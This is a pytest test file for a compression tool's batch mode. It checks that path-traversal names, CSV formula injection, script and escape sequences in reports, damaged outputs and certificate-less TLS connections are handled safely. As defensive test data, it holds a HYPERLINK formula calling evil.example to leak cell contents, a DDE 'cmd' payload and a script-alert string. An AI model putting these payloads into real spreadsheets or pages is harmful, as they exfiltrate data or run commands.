"""`moec batch` with hostile and damaged input: names from headers that climb out of the output
folder, names a file system takes for one, a folder that cannot be scanned, formulas in the
manifest, a spreadsheet's byte-order mark, a damaged output, a killed run's temporary files, a
report whose names break Markdown, a TLS scheduler without certificates.

Discovery, the manifest, the report and the resume check are tested on files directly; one test
runs real batches (a run and a rerun), the slow part."""

from __future__ import annotations

import csv
import io
import unicodedata
from pathlib import Path

import pytest

from codec.cohort import engine
from codec.cohort.discover import discover
from codec.cohort.engine import Engine
from codec.cohort.jobs import CohortSettings, VolumeJob, VolumeResult
from codec.cohort.manifest import MANIFEST, Manifest, is_finished, remove_stale_parts
from codec.cohort.report import table, write_report
from codec.cohort.run import CohortSummary, Done, Finished, Started, run
from codec.cohort.task import compress_one
from codec.errors import MoecError
from codec.format.container import pack_container, unpack_container
from codec.io.files import name_key
from codec.io.limits import MemoryLimit
from codec.io.load import save_volume
from codec.io.phantom import make_phantom

from .conftest import oblique_geometry, write_dicom_series
from .hostile import TRAVERSAL, files_under, traversal_exam
from .test_dicom import ct_raw

SMALL = (24, 20, 12)
TEXT_FIELDS = ("input", "series", "output", "modality", "shape", "status", "error", "settings")


def small_nifti(path: Path, seed: int = 0) -> None:
    volume, _ = make_phantom(SMALL, seed=seed)
    path.parent.mkdir(parents=True, exist_ok=True)
    save_volume(volume, path)


def moec_bytes(payload: bytes = b"weights") -> bytes:
    """A well-formed .moec container (a checksum that holds), without training anything."""
    return pack_container({"note": "test"}, b"\0" * 348, payload)


def row(name: str, **fields) -> VolumeResult:
    values = dict(
        input=name,
        series="",
        output=name.replace(".nii.gz", ".moec"),
        modality="",
        shape="4x4x4",
        bytes=100,
        ratio=6.2,
        psnr=30.5,
        ssim=0.9,
        seconds=1.0,
        status="ok",
        error="",
        settings=CohortSettings().key,
    )
    values.update(fields)
    return VolumeResult(**values)


def run_to_end(source: Path, out: Path, settings: CohortSettings, engine: Engine) -> CohortSummary:
    """A run driven to its end, its events in their order: refused volumes, then the engine's start
    and one Finished per volume to run (if any), then Done; its summary."""
    events = list(run(source, out, settings, engine=engine))
    done = events.pop()
    assert isinstance(done, Done)
    finished = [event for event in events if isinstance(event, Finished)]
    started = [i for i, event in enumerate(events) if isinstance(event, Started)]
    if finished:
        assert len(started) == 1 and events[started[0] + 1 :] == finished
        assert [event.done for event in finished] == list(range(1, len(finished) + 1))
        assert {event.total for event in finished} == {len(finished)} == {events[started[0]].todo}
    return done.summary


# --- no write outside the output folder ----------------------------------------------------------


def test_names_from_headers_stay_inside_the_output_folder(tmp_path, monkeypatch):
    """Whatever series_stem returns, the stem is made path-safe and every target checked inside OUT."""
    import codec.io.dicom as dicom

    traversal_exam(tmp_path / "in" / "exam")
    out = tmp_path / "nest" / "out"
    monkeypatch.setattr(dicom, "series_stem", lambda info, siblings: f"../../..{TRAVERSAL}/{info.uid}")
    jobs, broken = discover(tmp_path / "in", out)
    assert len(jobs) == 2 and not broken
    for job in jobs:
        assert out.resolve() in job.checked_target().parents
        assert job.target.parent == out.resolve() / "exam" and ".." not in Path(job.output).parts
    assert len({name_key(job.output) for job in jobs}) == 2


def test_a_folder_that_cannot_be_scanned_is_a_failed_row_and_the_rest_are_found(tmp_path, monkeypatch):
    import codec.io.dicom as dicom

    small_nifti(tmp_path / "in" / "a" / "one.nii.gz")
    write_dicom_series(tmp_path / "in" / "good", ct_raw(SMALL), **oblique_geometry())
    write_dicom_series(tmp_path / "in" / "odd", ct_raw(SMALL), **oblique_geometry())
    scan = dicom.scan_folder

    def fragile(folder):
        if Path(folder).name == "odd":
            raise RecursionError("maximum recursion depth exceeded\nin a nested sequence")
        return scan(folder)

    monkeypatch.setattr(dicom, "scan_folder", fragile)
    jobs, broken = discover(tmp_path / "in", tmp_path / "out")
    assert [job.input for job in jobs] == ["a/one.nii.gz", "good"]
    assert len(broken) == 1 and broken[0].input == "odd" and broken[0].status == "failed"
    assert "odd" in broken[0].error and "RecursionError" in broken[0].error and "\n" not in broken[0].error


def test_outputs_a_file_system_takes_for_one_get_distinct_names(tmp_path):
    source = tmp_path / "in"
    nfc, nfd = unicodedata.normalize("NFC", "café"), unicodedata.normalize("NFD", "café")
    for i, name in enumerate(
        ("Brain.nii.gz", "brain.nii.gz", "BRAIN.nii", f"{nfc}.nii.gz", f"{nfd}.nii.gz", "other.nii.gz")
    ):
        small_nifti(source / "s" / name, seed=i)
    jobs, broken = discover(source, tmp_path / "out")
    assert not broken and len(jobs) == 6
    outputs = {job.input: job.output for job in jobs}
    assert len({name_key(output) for output in outputs.values()}) == 6
    assert outputs["s/other.nii.gz"] == "s/other.moec"  # a name nobody shares keeps its name
    for name in ("Brain.nii.gz", "brain.nii.gz", "BRAIN.nii"):
        assert outputs[f"s/{name}"].lower().startswith("s/brain_") and outputs[f"s/{name}"].endswith(".moec")
    assert {job.input: job.output for job in discover(source, tmp_path / "out")[0]} == outputs  # on every run


def test_a_target_outside_the_output_folder_is_refused_before_any_work(tmp_path):
    small_nifti(tmp_path / "in" / "a.nii.gz")
    out = tmp_path / "out"
    job = VolumeJob(
        "a.nii.gz", "", "../escaped.moec", "", tmp_path / "in" / "a.nii.gz", out / ".." / "escaped.moec", 10
    )
    result = compress_one(job, CohortSettings(steps=2), threads=1)
    assert result.status == "failed" and "outside the output folder" in result.error
    assert not (tmp_path / "escaped.moec").exists() and not out.exists()


def test_a_volume_above_the_memory_limit_is_a_failed_row_that_says_so(tmp_path):
    small_nifti(tmp_path / "in" / "a.nii.gz")
    (job,), _ = discover(tmp_path / "in", tmp_path / "out")
    result = compress_one(job, CohortSettings(steps=2), threads=1, limit=MemoryLimit(1000))
    assert result.status == "failed" and "--max-memory" in result.error and "\n" not in result.error
    assert not job.target.exists()


def test_keeping_the_identity_is_part_of_the_settings_key_and_old_keys_still_match():
    assert "identity" not in CohortSettings().key  # what manifests written before the option hold
    assert CohortSettings(keep_identity=True).key == CohortSettings().key + " identity=kept"


# --- the manifest ----------------------------------------------------------------------------------


def test_formula_cells_are_neutralised_in_the_manifest_and_read_back_unchanged(tmp_path):
    path = tmp_path / MANIFEST
    hostile = [
        row(
            '=HYPERLINK("http://evil.example/?x="&A1,"click").nii.gz',
            series="+1.2.3",
            modality="@SUM(A1:A9)",
            error="-2+3",
            psnr=-3.5,
            ratio=-1.0,
        ),
        row(
            "\tcmd|' /C calc'!A0.nii.gz",
            shape="\r=1+1",
            error="=cmd|' /C calc'!A0",
            status="failed",
            bytes=None,
            psnr=None,
            ssim=None,
        ),
        row("'=already quoted.nii.gz", series="'quoted", modality="'", error="it's fine", bytes=-5),
        row("plain.nii.gz", error='line one\nline two, with "quotes" and a comma'),
    ]
    manifest = Manifest(path)
    for result in hostile:
        manifest.record(result)
    raw = list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8"), newline="")))
    header, cells = raw[0], raw[1:]
    assert len(cells) == len(hostile)
    for line in cells:
        for name, text in zip(header, line):
            if name in TEXT_FIELDS:
                assert not text.startswith(("=", "+", "-", "@", "\t", "\r")), (name, text)
    assert any(text.startswith("'=HYPERLINK") for line in cells for text in line)
    assert any(text == "-3.5" for line in cells for text in line)  # a number stays a number
    again = Manifest(path).rows
    assert again == {result.key: result for result in hostile}


def test_a_manifest_saved_with_a_byte_order_mark_and_a_huge_cell_is_read(tmp_path):
    path = tmp_path / MANIFEST
    Manifest(path).record(row("a.nii.gz", error="x" * 300_000, status="failed"))
    path.write_bytes(b"\xef\xbb\xbf" + path.read_bytes().replace(b"\n", b"\r\n"))  # as a spreadsheet saves it
    bound = csv.field_size_limit()
    rows = Manifest(path).rows
    assert list(rows) == [("a.nii.gz", "")] and rows["a.nii.gz", ""].error == "x" * 300_000
    assert csv.field_size_limit() == bound  # the csv module's bound is left as it was


# --- resume ----------------------------------------------------------------------------------------


def test_a_damaged_output_of_the_right_size_is_not_finished(tmp_path):
    out = tmp_path / "out"
    out.mkdir()
    job = VolumeJob("a.nii.gz", "", "a.moec", "", tmp_path / "a.nii.gz", out / "a.moec", 10)
    data = moec_bytes()
    job.target.write_bytes(data)
    settings = CohortSettings()
    done = row("a.nii.gz", bytes=len(data))
    assert is_finished(job, done, settings)
    damaged = bytearray(data)
    damaged[len(data) // 2] ^= 0x10
    job.target.write_bytes(bytes(damaged))
    assert job.target.stat().st_size == done.bytes and not is_finished(job, done, settings)
    job.target.write_bytes(data)
    assert not is_finished(job, row("a.nii.gz", bytes=len(data), output="b.moec"), settings)  # another output
    assert not is_finished(job, done, CohortSettings(keep_identity=True))


def test_only_the_batchs_own_temporary_files_are_removed(tmp_path):
    out = tmp_path / "out"
    (out / "s").mkdir(parents=True)
    targets = [out / "s" / "a.moec", out / MANIFEST]
    stale = [out / "s" / ".a.moec.k2x_9abc.part.moec", out / ".manifest.csv.a1b2c3d4.part.csv"]
    kept = [
        out / "s" / ".b.moec.k2x_9abc.part.moec",  # not an output of this batch
        out / "s" / "a.moec.k2x_9abc.part.moec",  # not hidden: not a temporary file of atomic_write
        out / "s" / ".a.moec.k2x_9abc.moec",  # no .part
        out / "s" / "a.moec",
        out / "notes.part",
    ]
    for path in stale + kept:
        path.write_bytes(b"x")
    (out / "s" / ".a.moec.folder12.part.moec").mkdir()  # a folder of that name is not a temporary file
    outside = tmp_path / ".a.moec.k2x_9abc.part.moec"
    outside.write_bytes(b"x")
    assert sorted(remove_stale_parts(out, targets + [tmp_path / "a.moec"])) == sorted(stale)
    assert not any(path.exists() for path in stale)
    assert all(path.exists() for path in kept) and (out / "s" / ".a.moec.folder12.part.moec").is_dir()
    assert outside.exists()  # beside a target outside the output folder: not the batch's to touch


# --- the report ------------------------------------------------------------------------------------


def test_the_report_escapes_pipes_line_breaks_and_html_and_the_table_escape_sequences(tmp_path):
    rows = (
        row("a|b\nc.nii.gz", modality="C|T", shape="4x4x4"),
        row(
            "x`y.nii.gz",
            status="failed",
            error="bad | header\r\n<script>alert(1)</script>\x1b[31m",
            bytes=None,
            ratio=None,
            psnr=None,
            ssim=None,
        ),
        row("$\\frac{$.nii.gz", psnr=20.0),
    )
    md, png = write_report(rows, tmp_path / "report", "cohort | with\na newline")
    assert png.read_bytes()[:8] == b"\x89PNG\r\n\x1a\n"
    lines = md.read_text().split("\n")
    assert lines[0] == "# cohort \\| with a newline"
    table_lines = [line for line in lines if line.startswith("|")]
    volume_rows = table_lines[table_lines.index("|---|---|---|---|---:|---:|---:|---:|") + 1 :]
    assert len(volume_rows) == 3
    for line in volume_rows:
        assert line.replace("\\|", "").count("|") == 9, line  # eight cells
    text = "\n".join(lines)
    assert "<script>" not in text and "&lt;script&gt;" in text and "\x1b" not in text and "\r" not in text
    assert "`a\\|b c.nii.gz`" in text and "``x`y.nii.gz``" in text
    printed = table(rows)
    assert "\x1b" not in printed and "\r" not in printed
    assert len(printed.split("\n")) == 1 + len(rows) + 1 + 2  # header, rows, blank, a line per modality


# --- TLS -------------------------------------------------------------------------------------------


def test_a_tls_scheduler_without_certificates_is_one_clear_error(tmp_path):
    import dask.config
    import distributed  # noqa: F401  (its configuration's defaults, before dask.config.set records what to restore)

    none = {
        "distributed.comm.tls.ca-file": None,
        "distributed.comm.tls.client.cert": None,
        "distributed.comm.tls.client.key": None,
        "distributed.client.security-loader": None,
    }
    with dask.config.set(none), pytest.raises(MoecError, match="certificate") as refused:
        engine.connect("tls://127.0.0.1:1")
    assert "\n" not in str(refused.value) and "distributed.comm.tls.ca-file" in str(refused.value)
    missing = {
        **none,
        "distributed.comm.tls.ca-file": str(tmp_path / "ca.pem"),
        "distributed.comm.tls.client.cert": str(tmp_path / "client.pem"),
    }
    with dask.config.set(missing), pytest.raises(MoecError, match="certificate") as refused:
        engine.connect("tls://127.0.0.1:1")
    assert "\n" not in str(refused.value)


# --- real runs -------------------------------------------------------------------------------------


def test_a_hostile_cohort_runs_inside_its_folder_and_a_damaged_output_is_made_again(tmp_path):
    source, out = tmp_path / "in", tmp_path / "nest" / "out"
    traversal_exam(source / "exam")
    small_nifti(source / "a" / "Scan.nii.gz", seed=1)
    small_nifti(source / "a" / "scan.nii.gz", seed=2)
    before = files_under(tmp_path)
    settings = CohortSettings(ratio=6, steps=20, batch_size=2048)
    first = run_to_end(source, out, settings, Engine(workers=2))
    # Nothing written outside OUT: the rest of the tree (OUT's parent included) is as it was.
    assert files_under(tmp_path, leaving=out) == {**before, "nest": -1}
    assert sorted(p.name for p in (tmp_path / "nest").iterdir()) == ["out"]
    written = [p for p in out.rglob("*") if p.is_file()]
    assert all(out.resolve() in p.resolve().parents for p in written)
    ok = [r for r in first.rows if r.ok]
    assert {r.input for r in ok} >= {"a/Scan.nii.gz", "a/scan.nii.gz"}
    assert len({name_key(r.output) for r in ok}) == len(ok) and first.compressed == len(ok)

    victim = next(r for r in ok if r.input == "a/Scan.nii.gz")
    target = out / victim.output
    damaged = bytearray(target.read_bytes())
    damaged[len(damaged) // 2] ^= 0x01
    target.write_bytes(bytes(damaged))
    stale = [target.parent / f".{target.name}.abc12_xy.part.moec", out / f".{MANIFEST}.zz9_8765.part.csv"]
    for path in stale:
        path.write_bytes(b"left by a killed run")

    again = run_to_end(source, out, settings, Engine(workers=1))
    assert again.compressed == 1 and again.skipped == len(ok) - 1
    unpack_container(target.read_bytes(), str(target))  # whole again
    assert not any(path.exists() for path in stale)
    assert files_under(tmp_path, leaving=out) == {**before, "nest": -1}
